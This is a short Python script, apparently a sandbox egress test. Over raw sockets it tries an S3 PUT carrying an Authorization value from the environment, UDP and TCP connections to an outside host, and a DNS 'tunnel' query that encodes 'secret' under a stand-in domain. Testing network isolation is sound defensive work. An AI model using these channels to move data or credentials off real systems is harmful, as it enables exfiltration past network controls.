"""Sockets, with nothing in between that could read a variable."""
import os, socket, ssl, struct, sys

outside, tcp, udp = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def put(bucket):
    host = bucket + ".s3.us-east-1.amazonaws.com"
    with socket.create_connection((host, 443), 20) as raw:
        with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:
            s.sendall(f"PUT / HTTP/1.1\r\nHost: {host}\r\nAuthorization: {os.environ['AUTH']}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())
            out = b""
            while data := s.recv(65536):
                out += data
            print(out.decode())


def attempt(what, f):
    try:
        print("==", what)
        print(f())
    except OSError as e:
        print("error", e)


def datagram(to, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect(to)
        s.send(data)
        return s.recv(4096)


def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


def over_tcp():
    with socket.create_connection((outside, tcp), 5) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return s.recv(4096)


attempt("socket", lambda: put("acme-python"))
attempt("UDP 443", lambda: datagram((outside, 443), b"quic"))
attempt("UDP", lambda: datagram((outside, udp), b"anything"))
# rcode 5 is REFUSED; what was asked leaves nothing behind
attempt("DNS tunnel", lambda: "rcode %d" % (datagram((outside, 53), query("c2VjcmV0.tunnel.test", 16))[3] & 15))
attempt("DNS", lambda: "198.18" if datagram(("8.8.8.8", 53), query("tunnel.test", 1))[-4:-2] == bytes([198, 18]) else "other")
attempt("TCP", over_tcp)
